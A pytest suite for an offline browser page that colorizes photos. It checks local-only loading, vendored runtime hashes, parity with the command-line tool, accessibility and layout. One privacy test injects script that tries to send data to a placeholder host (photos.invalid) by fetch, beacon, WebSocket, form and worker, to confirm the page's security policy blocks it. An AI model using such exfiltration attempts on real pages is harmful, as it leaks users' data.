"""The page "Color your photo": what is written, and the page used from a file as a person would."""

import base64
import gzip
import hashlib
import html
import io
import json
import re
import shutil
import time

import numpy as np
import pytest
from chromium import wait_for
from color_page_browser import difference, encoded, open_browser, photo, rgba
from PIL import Image

from colorlib import paths
from colorlib.color import to_gray
from colorlib.photos import PhotoError, fetch_photos
from colorlib.pipeline import color_page
from conftest import run_colorlib

VENDOR = paths.REPORT / "colorize" / "vendor" / "onnxruntime-web"
SECONDS = 6  # that showing a photo of 1 megapixel may take: many times what it takes on an idle machine


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    return color_page.write_color_page(tmp_path_factory.mktemp("page"))


@pytest.fixture(scope="module")
def session(page, tmp_path_factory):
    yield from open_browser(page, tmp_path_factory.mktemp("browser"))


@pytest.fixture
def browser(session):
    session.open()
    return session


# What is written


def test_the_page_loads_nothing_but_files_beside_it(page):
    text = page.read_text("utf-8")
    loaded = re.findall(r'(?:src|<link rel="stylesheet" href)="([^"]+)"', text)
    assert len(loaded) == 13 and all((page.parent / name).is_file() for name in loaded)
    assert "__" not in text
    for script in page.with_suffix("").glob("*.js"):
        assert not re.search(r"(fetch|import|importScripts)\(\s*[\"'`](https?:)?//", script.read_text("utf-8"))


def test_its_network_is_the_shipped_one_to_the_byte(page):
    script = (page.with_suffix("") / "model.js").read_text("utf-8")
    assert base64.b64decode(re.search(r'"([\w+/=]{1000,})"', script)[1]) == (paths.WEIGHTS / "unet.onnx").read_bytes()


def test_without_a_network_there_is_no_page(tmp_path, monkeypatch):
    monkeypatch.setattr(paths, "WEIGHTS", tmp_path / "nowhere")
    assert color_page.write_color_page(tmp_path / "site") is None
    assert not (tmp_path / "site").exists()


def test_the_example_is_credited_and_left_out_where_its_package_is_missing(page, tmp_path, monkeypatch):
    (row,) = [row for row in fetch_photos("bundled") if row.name == color_page.EXAMPLE]
    text = page.read_text("utf-8")
    assert all(html.escape(words) in text for words in (row.photographer, row.source, "CC BY 2.0"))
    example = json.loads(re.search(r"= (.*);", (page.with_suffix("") / "example.js").read_text("utf-8"))[1])
    assert max(Image.open(io.BytesIO(base64.b64decode(example["data"]))).size) == color_page.EXAMPLE_SIDE

    def missing(collection):
        raise PhotoError("not installed")

    monkeypatch.setattr(color_page, "fetch_photos", missing)
    without = color_page.write_color_page(tmp_path)
    assert '<p class="credit" hidden>' in without.read_text("utf-8")
    assert not (without.with_suffix("") / "example.js").exists()


def test_what_is_vendored_is_the_recorded_version():
    about = json.loads((VENDOR / "version.json").read_text("utf-8"))
    assert about["integrity"].startswith("sha512-") and about["license"] == "MIT"
    for name, digest in about["sha256"].items():
        packed = VENDOR / f"{name}.gz"
        content = gzip.decompress(packed.read_bytes()) if packed.is_file() else (VENDOR / name).read_bytes()
        assert hashlib.sha256(content).hexdigest() == digest, name
    assert "MIT License" in (VENDOR / "LICENSE").read_text("utf-8")
    assert sum(file.stat().st_size for file in VENDOR.iterdir()) < 5_000_000


# How it is used


def command_pixels(tmp_path, name: str, content: bytes, *options: str) -> np.ndarray:
    """What ``colorlib colorize`` makes of a photo, without what a JPEG would lose of it."""
    (tmp_path / name).write_bytes(content)
    output = tmp_path / f"colored-{name}.tif"
    done = run_colorlib("colorize", str(tmp_path / name), "-o", str(output), *options)
    assert done.returncode == 0, done.stderr
    return np.asarray(Image.open(output))


def test_a_dropped_photo_is_shown_steered_and_saved_as_the_command_would(browser, tmp_path):
    from selenium.webdriver import ActionChains
    from selenium.webdriver.common.keys import Keys

    content = encoded(photo("chelsea"))
    browser.drop("cat.png", content)
    browser.wait_for_status("cat.png is colored")
    original = rgba(photo("chelsea"))
    gray = browser.pixels("gray")[..., :3]
    assert difference(gray[..., 0], np.rint(255 * to_gray(original[..., :3] / np.float32(255)))) <= 1
    assert difference(browser.pixels("colored")[..., :3], command_pixels(tmp_path, "plain.png", content)) <= 1

    # The slider between gray and colored: by keyboard, then by mouse.
    split, stage = browser.find("split"), browser.find("stage")
    split.send_keys(Keys.ARROW_LEFT * 10)
    assert (split.get_property("value"), split.get_attribute("aria-valuetext")) == ("40", "40 % gray")
    assert "40%" in stage.get_attribute("style")
    quarter = -stage.size["width"] / 4
    ActionChains(browser.driver).move_to_element(stage).click_and_hold().move_by_offset(quarter, 5).release().perform()
    assert split.get_property("value") == "25"
    browser.driver.switch_to.active_element.send_keys(Keys.ARROW_RIGHT)  # a click hands it the keyboard too
    assert split.get_property("value") == "26"

    # Chroma: by mouse, then by keyboard. The network does not run again.
    chroma = browser.find("chroma")
    browser.driver.execute_script("Runtime.run = () => { throw new Error('it ran again'); }")
    ActionChains(browser.driver).move_to_element_with_offset(chroma, chroma.size["width"] // 2 - 2, 0).click().perform()
    assert browser.find("chroma-value").text == "1.50"
    chroma.send_keys(Keys.ARROW_LEFT * 2)
    assert browser.find("chroma-value").text == "1.40"
    expected = command_pixels(tmp_path, "vivid.png", content, "--chroma", "1.4")
    wait_for(lambda: difference(browser.pixels("colored")[..., :3], expected) <= 1)

    # The look, without the network either.
    browser.find("vivid").click()
    expected = command_pixels(tmp_path, "more.png", content, "--chroma", "1.4", "--look", "vivid")
    wait_for(lambda: difference(browser.pixels("colored")[..., :3], expected) <= 1)

    saved = np.asarray(Image.open(io.BytesIO(browser.download())))
    assert difference(saved[..., :3], expected) <= 1
    severe = [entry for entry in browser.driver.get_log("browser") if entry["level"] == "SEVERE"]
    assert not severe


def test_a_chosen_jpeg_is_turned_upright_and_stays_a_jpeg(browser, tmp_path):
    orientation = Image.Exif()
    orientation[274] = 6
    content = encoded(photo("china"), "JPEG", quality=95, exif=orientation)
    (tmp_path / "tower.jpeg").write_bytes(content)
    browser.find("file").send_keys(str(tmp_path / "tower.jpeg"))
    browser.wait_for_status("tower.jpeg is colored")
    saved = Image.open(io.BytesIO(browser.download()))
    expected = command_pixels(tmp_path, "tower.jpg", content)
    assert saved.format == "JPEG" and saved.size == (427, 640) == expected.shape[1::-1]
    assert np.abs(np.asarray(saved).astype(int) - expected).mean() < 2  # lost by encoding


@pytest.mark.parametrize("mode, size", [("L", (301, 17)), ("P", (64, 64)), ("RGB", (1, 40)), ("L", (2000, 3))])
def test_photos_of_any_mode_and_shape_are_colored_as_the_command_does_it(browser, tmp_path, mode, size):
    content = encoded(photo("flower").resize(size).convert(mode))
    browser.drop("odd.png", content)
    browser.wait_for_status("odd.png is colored")
    saved = np.asarray(Image.open(io.BytesIO(browser.download())).convert("RGB"))
    assert difference(saved, command_pixels(tmp_path, "odd.png", content)) <= 1


def test_opacity_is_kept(browser, tmp_path):
    image = photo("flower").resize((160, 120)).convert("RGBA")
    opacity = np.full((120, 160), 255, np.uint8)
    opacity[:, :20] = np.arange(0, 240, 12)
    image.putalpha(Image.fromarray(opacity))
    browser.drop("part.png", encoded(image))
    browser.wait_for_status("part.png is colored")
    saved = np.asarray(Image.open(io.BytesIO(browser.download())))
    expected = command_pixels(tmp_path, "part.png", encoded(image))
    assert difference(saved[..., 3], opacity) == 0
    # A canvas keeps the colors of pixels only as far as they are seen: the network sees black where nothing is seen.
    assert np.abs(saved[:, 40:, :3].astype(int) - expected[:, 40:, :3]).mean() < 4


def test_the_example_is_one_click_away(browser):
    browser.find("example").click()
    browser.wait_for_status(f"{color_page.EXAMPLE}.jpg is colored")
    assert np.ptp(browser.pixels("colored")[..., :3].astype(int), axis=-1).max() > 50


@pytest.mark.parametrize(
    "name, content", [("notes.txt", b"no photo"), ("empty.png", b""), ("torn.png", b"\x89PNG\r\n\x1a\n0")]
)
def test_a_file_that_is_no_image_is_named_and_the_photo_stays(browser, name, content):
    browser.drop("good.png", encoded(photo("flower").resize((96, 64))))
    browser.wait_for_status("good.png is colored")
    browser.drop(name, content, "")
    browser.wait_for_status(f"{name} is not an image that this browser can read: give a JPEG, PNG or WebP.")
    assert "error" in browser.find("status").get_attribute("class")
    assert browser.find("result").is_displayed() and browser.download()


def test_the_last_of_several_photos_is_the_one_that_is_shown(browser):
    for name, size in (("first.jpg", (3000, 2000)), ("second.jpg", (64, 48)), ("third.jpg", (80, 60))):
        browser.drop(name, encoded(photo("china").resize(size), "JPEG"))
    browser.wait_for_status("third.jpg is colored")
    time.sleep(1)
    assert "third.jpg" in browser.status() and browser.pixels("colored").shape == (60, 80, 4)
    assert not browser.find("progress").is_displayed()


def test_a_missing_part_is_named(page, session, tmp_path):
    shutil.copytree(page.parent, tmp_path / "copy")
    copy = tmp_path / "copy" / page.name
    (copy.with_suffix("") / "model.js").unlink()
    session.open(copy)
    session.wait_for_status("The network can't be run here (model.js is missing)")


def test_photos_are_shown_soon(browser):
    browser.driver.execute_async_script("Runtime.start().then(arguments[0])")
    for name, size in (("512 pixels squared", (512, 512)), ("1 megapixel", (1250, 800))):
        browser.drop(f"{size[0]}.png", encoded(photo("china").resize(size)))
        browser.wait_for_status(f"{size[0]}.png is colored")
        print(f"{name}: shown after {browser.measured('shown'):.2f} s")
        assert browser.measured("shown") < SECONDS


def test_24_megapixels_are_colored_with_progress_and_without_freezing(browser, tmp_path):
    noise = np.random.default_rng(0).integers(-3, 4, (4000, 6000, 1))
    large = np.asarray(photo("china").resize((6000, 4000), Image.Resampling.BICUBIC)) + noise
    content = encoded(Image.fromarray(large.clip(0, 255).astype(np.uint8)), compress_level=1)
    (tmp_path / "large.png").write_bytes(content)
    browser.driver.execute_async_script("Runtime.start().then(arguments[0])")
    browser.driver.execute_script(
        "window.longest = 0; window.shares = [];"
        "new PerformanceObserver((list) => list.getEntries().forEach((task) => {"
        "  longest = Math.max(longest, task.duration);"
        "})).observe({ type: 'longtask' });"
        "new MutationObserver(() => shares.push(document.getElementById('percent').textContent))"
        "  .observe(document.getElementById('percent'), { childList: true, characterData: true, subtree: true });"
    )
    browser.find("file").send_keys(str(tmp_path / "large.png"))
    browser.wait_for_status("large.png is colored", 120)
    saved = np.asarray(Image.open(io.BytesIO(browser.download())).convert("RGB"))
    longest, shares = browser.driver.execute_script("return [longest, shares]")
    print(
        f"24 megapixels: shown after {browser.measured('shown'):.1f} s, saved after {browser.measured('saved'):.1f} s, "
        f"longest without a pause {longest:.0f} ms"
    )
    assert longest < 1000 and len(set(shares)) > 20
    assert not browser.find("progress").is_displayed()
    assert difference(saved, command_pixels(tmp_path, "large.png", content)) <= 1


def test_nothing_leaves_the_page_not_even_if_its_scripts_wanted_it(browser):
    browser.drop("private.png", encoded(photo("flower").resize((128, 96))))
    browser.wait_for_status("private.png is colored")
    browser.download()
    log = [json.loads(entry["message"])["message"] for entry in browser.driver.get_log("performance")]
    requests = [entry["params"] for entry in log if entry["method"] == "Network.requestWillBeSent"]
    addresses = {request["request"]["url"] for request in requests if request["documentURL"] == browser.page.as_uri()}
    assert len(addresses) >= 10 and all(re.match("file:|blob:null/", address) for address in addresses), addresses
    refused = browser.driver.execute_async_script("""
        const done = arguments[0], refused = [], host = "https://photos.invalid/";
        document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
        const form = Object.assign(document.createElement("form"), { action: host, method: "post", target: "_blank" });
        const add = (tag, source) => document.body.append(Object.assign(document.createElement(tag), source));
        document.body.append(form);
        fetch(host, { method: "POST", body: "photo" }).catch(() => {});
        navigator.sendBeacon(host, "photo");
        try { new WebSocket("wss://photos.invalid/"); } catch { /* refused at once */ }
        add("img", { src: host }), add("script", { src: host }), add("iframe", { src: host });
        form.submit();
        new Worker(URL.createObjectURL(new Blob([`fetch("${host}").catch(() => postMessage("refused"))`])))
          .onmessage = ({ data }) => { refused.push(`worker ${data}`); setTimeout(() => done(refused), 300); };
    """)
    expected = ["connect-src"] * 3 + ["form-action", "frame-src", "img-src", "script-src-elem", "worker refused"]
    assert sorted(refused) == expected


def test_every_control_has_a_name_and_is_reached_by_keyboard(browser):
    from selenium.webdriver import ActionChains
    from selenium.webdriver.common.keys import Keys

    browser.drop("flower.png", encoded(photo("flower").resize((128, 96))))
    browser.wait_for_status("is colored")
    names = {name: browser.find(name).accessible_name for name in ("file", "split", "chroma", "save", "example")}
    assert all(names.values()), names
    assert browser.find("status").aria_role == "status"
    reached = set()
    for _ in range(12):
        ActionChains(browser.driver).send_keys(Keys.TAB).perform()
        reached.add(browser.driver.switch_to.active_element.get_attribute("id"))
    assert names.keys() <= reached


def test_it_fits_a_phone_and_follows_the_dark_mode(browser):
    def emulate(command, **options):
        browser.driver.execute_cdp_cmd(f"Emulation.{command}", options)

    def style(name, of="document.body"):
        return browser.driver.execute_script(f"return getComputedStyle({of}).{name}")

    browser.drop("flower.png", encoded(photo("flower")))
    browser.wait_for_status("is colored")
    try:
        emulate("setDeviceMetricsOverride", width=360, height=640, deviceScaleFactor=2, mobile=True)
        assert browser.driver.execute_script("return document.scrollingElement.scrollWidth") <= 360
        for scheme, background in (("light", "rgb(255, 255, 255)"), ("dark", "rgb(19, 20, 22)")):
            emulate("setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
            assert style("backgroundColor") == background
        browser.driver.execute_script("localStorage.setItem('theme', 'light')")  # as the site's own button does
        browser.driver.refresh()
        assert style("backgroundColor") == "rgb(255, 255, 255)"
    finally:
        browser.driver.execute_script("localStorage.clear()")
        emulate("clearDeviceMetricsOverride")
        emulate("setEmulatedMedia", features=[])
